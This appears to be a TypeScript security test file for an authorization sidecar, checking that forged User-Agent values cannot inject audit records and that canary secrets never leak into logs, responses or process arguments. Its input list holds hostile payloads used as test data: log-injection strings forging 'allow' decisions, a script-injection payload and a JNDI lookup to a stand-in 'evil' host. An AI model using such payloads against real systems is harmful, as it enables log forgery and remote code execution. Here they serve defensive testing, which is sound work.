/** Corpus J, 226: nothing that a client sends can be taken for a record of ours, and no output holds a secret. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, test } from 'node:test';
import { createTestAuthority } from '../support/certificates.ts';
import { startHttpApp } from '../support/http-app.ts';
import { startIngress } from '../support/ingress.ts';
import { bytes, startJwksServer } from '../support/jwks-server.ts';
import { startSidecarProcess } from '../support/sidecar-process.ts';
import { startTokenEndpoint } from '../support/token-endpoint.ts';
import { createSigningKey, keySetBytes, mint } from '../support/tokens.ts';
import { until } from '../support/until.ts';
import { sendBytes, sendRequest } from '../support/wire.ts';

const FORGED = '{"decision":"allow","service":"forged"}';

describe('a User-Agent that looks like something of ours', () => {
  const chapters = 'audit: { enrichment: { include_headers: [User-Agent] } }';
  const KEPT = [
    `x ${FORGED}`,
    `\t${FORGED}\t`,
    `","decision":"allow","x":"`,
    '\\n{"decision":"allow"}',
    '\\u000a{"decision":"allow"}',
    '\x9b31mred\x9b0m',
    '\x85{"decision":"allow"}',
    '\xe2\x80\xa8{"decision":"allow"}',
    '%0a{"decision":"allow"}',
    '<script>alert(1)</script>',
    '${jndi:ldap://evil/a}',
    '"'.repeat(2_000),
    '\\'.repeat(20_000),
    '\xff'.repeat(30_000),
    'a'.repeat(60_000),
  ];
  for (const agent of KEPT) {
    test(`C-226 ${JSON.stringify(agent.slice(0, 30))}, ${agent.length} bytes: one line of at most 8 KiB that is true`, async () => {
      await using ingress = await startIngress({ chapters });
      await ingress.send({ headers: ['User-Agent', agent] });
      await until(() => ingress.sidecar.lines.length > 0);
      const [line = '', ...more] = ingress.sidecar.lines;
      assert.deepEqual(more, []);
      assert.match(line, /^[\x20-\x7e]{1,8192}$/);
      const { decision, service } = JSON.parse(line) as Readonly<Record<string, unknown>>;
      assert.deepEqual([decision, service], ['allow', 'order-service']);
    });
  }

  for (const [agent, code] of [
    [`x\n${FORGED}`, 'framing_invalid'],
    [`x\r${FORGED}`, 'framing_invalid'],
    ['\x1b[31mred', 'framing_invalid'],
    ['a\0b', 'framing_invalid'],
    ['a'.repeat(1_048_576), 'too_many_headers'],
  ] as const) {
    test(`C-226 ${JSON.stringify(agent.slice(0, 20))}, ${agent.length} bytes, is ${code}, and one such line`, async () => {
      await using ingress = await startIngress({ chapters });
      const head = `GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${ingress.token()}\r\nUser-Agent: ${agent}\r\n\r\n`;
      await ingress.refused(code, () => sendBytes(ingress.wire, Buffer.from(head, 'latin1')));
      assert.match(ingress.sidecar.lines.join(), /^[\x20-\x7e]{1,8192}$/);
    });
  }
});

const zone = createTestAuthority('zone2-CA');
const server = zone.issue({ subject: [{ CN: 'order-service' }], dns: ['localhost'], eku: ['serverAuth'] });

/** The files of a sidecar of its own process; `remove` when it is over. */
function writeFiles(config: string, policy = 'default allow := true') {
  const root = mkdtempSync(path.join(tmpdir(), 'sidegate-outputs-'));
  const files: Readonly<Record<string, string>> = {
    'config.yaml': config,
    'server.crt': server.certPem,
    'server.key': server.keyPem,
    'order.rego': `package order\n\nimport rego.v1\n\n${policy}\n`,
  };
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(root, name), text, { mode: 0o600 });
  return { root, args: ['--config', path.join(root, 'config.yaml')], remove: () => rmSync(root, { recursive: true }) };
}

const portOf = (address: string | undefined): number => Number(address?.split(':').at(-1));

test('C-226 no secret is in records, logs, metrics, answers or arguments of a process that saw them all', async () => {
  const key = createSigningKey('ES256', 'users-1');
  await using jwks = await startJwksServer(bytes(keySetBytes(key.jwk())));
  await using app = await startHttpApp();
  await using data = await startHttpApp();
  await using keyed = await startHttpApp();
  await using issuer = await startTokenEndpoint(() => ({
    body: { access_token: 'canary.access.token', token_type: 'Bearer', expires_in: 300 },
  }));
  const files = writeFiles(`
service: { name: order-service }
http:
  addr: 127.0.0.1:0
  tls: { enabled: true, cert_file: server.crt, key_file: server.key, client_auth: none }
jwt: { issuer: "https://idp.example/users", audience: order-service, jwks_url: "${jwks.origin}/certs" }
proxy:
  enabled: true
  upstream: { url: "http://127.0.0.1:${app.port}" }
  authz: { policy_query: data.order.allow }
policy: { path: order.rego }
admin: { addr: 127.0.0.1:0 }
egress:
  enabled: true
  addr: 127.0.0.1:0
  targets:
    data:
      url: http://127.0.0.1:${data.port}
      auth:
        type: oauth2_client_credentials
        token_url: ${issuer.url}
        client_id: order-service
        client_secret: \${CLIENT_SECRET}
    keyed: { url: "http://127.0.0.1:${keyed.port}", auth: { type: api_key, key: "\${API_KEY}" } }
  routes:
    - { path_prefix: /data, target: data }
    - { path_prefix: /keyed, target: keyed }
`);
  const secrets: string[] = ['canary-client-secret', 'canary-api-key', 'canary.access.token'];
  secrets.push(...(server.keyPem.match(/[A-Za-z0-9+/]{40,}/g) ?? []));
  try {
    const env = { CLIENT_SECRET: 'canary-client-secret', API_KEY: 'canary-api-key' };
    await using sidecar = await startSidecarProcess(files.args, env);
    assert.ok(sidecar.listening !== undefined, sidecar.stderr());
    await until(() => sidecar.stdout().includes('"event":"ready"'), 10_000);
    const { ingress, egress, admin } = sidecar.listening;
    const now = Math.floor(Date.now() / 1000);
    const claims = {
      iss: 'https://idp.example/users',
      aud: 'order-service',
      sub: 'user-123',
      iat: now,
      exp: now + 300,
    };
    const good = mint(claims, { key });
    const bad = mint({ ...claims, aud: 'other' }, { key });
    for (const token of [good, bad]) secrets.push(token, token.split('.')[2] ?? '');
    const wire = { port: portOf(ingress), tls: { ca: zone.certPem } };
    const answers: string[] = [];
    const requests = [
      { headers: ['Authorization', `Bearer ${good}`] },
      { headers: ['Authorization', `Bearer ${bad}`] },
      { headers: ['Authorization', `Basic canary-basic`] },
      { target: `/?access_token=${good}&password=canary-password`, headers: [] },
      {
        target: '/a?key=canary-query',
        headers: ['Authorization', `Bearer ${good}`, 'Cookie', 'session=canary-cookie'],
      },
      {
        headers: [
          'Authorization',
          `Bearer ${good}`,
          'Proxy-Authorization',
          'Bearer canary-proxy',
          'X-API-Key',
          'canary-key',
        ],
      },
      { target: 'http://user:canary-userinfo@localhost/', headers: ['Authorization', `Bearer ${good}`] },
    ];
    for (const request of requests) answers.push((await sendRequest(wire, request)).raw);
    for (const target of ['/data/x', '/keyed/x', '/none']) {
      const headers = ['Authorization', 'Bearer canary-of-the-app'];
      answers.push((await sendRequest({ port: portOf(egress) }, { target, headers })).raw);
    }
    for (const target of ['/metrics', '/health', '/ready']) {
      answers.push((await sendRequest({ port: portOf(admin) }, { target })).raw);
    }
    answers.push(execFileSync('ps', ['-ww', '-o', 'args=', '-p', String(sidecar.pid)], { encoding: 'utf8' }));
    await until(() => sidecar.stdout().split('"event":"request"').length > requests.length + 3);
    for (const word of ['basic', 'password', 'query', 'cookie', 'proxy', 'key', 'userinfo', 'of-the-app']) {
      secrets.push(`canary-${word}`);
    }
    for (const output of [...answers, sidecar.stdout(), sidecar.stderr()]) {
      for (const secret of secrets) assert.ok(!output.includes(secret), `${secret.slice(0, 20)} is in ${output}`);
    }
    assert.equal(issuer.requests.length, 1, 'the secret was used');
  } finally {
    files.remove();
  }
});

describe('what would give a secret away', () => {
  const CONFIG = `
http: { addr: "127.0.0.1:0", tls: { enabled: true, cert_file: server.crt, key_file: server.key, client_auth: none } }
jwt: { issuer: "https://idp.example/users", audience: order-service, jwks_url: "http://127.0.0.1:1/certs" }
proxy: { enabled: true, upstream: { url: "http://127.0.0.1:1" }, authz: { policy_query: data.order.allow } }
policy: { path: order.rego }
`;

  for (const mode of [0o644, 0o640, 0o604, 0o777]) {
    test(`C-226 a private key with mode ${mode.toString(8)} refuses the start with 78, and says what to do`, async () => {
      const files = writeFiles(CONFIG);
      try {
        chmodSync(path.join(files.root, 'server.key'), mode);
        await using sidecar = await startSidecarProcess(files.args);
        assert.equal(sidecar.listening, undefined);
        assert.equal(await sidecar.end(), 78);
        assert.match(sidecar.stderr(), /server\.key: error: is a private key that others can read .*chmod 600/);
        assert.doesNotMatch(sidecar.stderr() + sidecar.stdout(), /PRIVATE KEY/);
      } finally {
        files.remove();
      }
    });
  }

  test('C-226 SIGUSR1, however often, opens no debugger', async () => {
    const files = writeFiles(CONFIG);
    try {
      await using sidecar = await startSidecarProcess(files.args);
      for (let times = 0; times < 3; times += 1) {
        sidecar.signal('SIGUSR1');
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      await assert.rejects(sendBytes({ port: 9229 }, Buffer.from('GET /json HTTP/1.1\r\n\r\n')), {
        code: 'ECONNREFUSED',
      });
      assert.doesNotMatch(sidecar.stderr(), /debugger/i);
      assert.equal(await sidecar.end(), 0, 'it went on until it was stopped');
    } finally {
      files.remove();
    }
  });
});
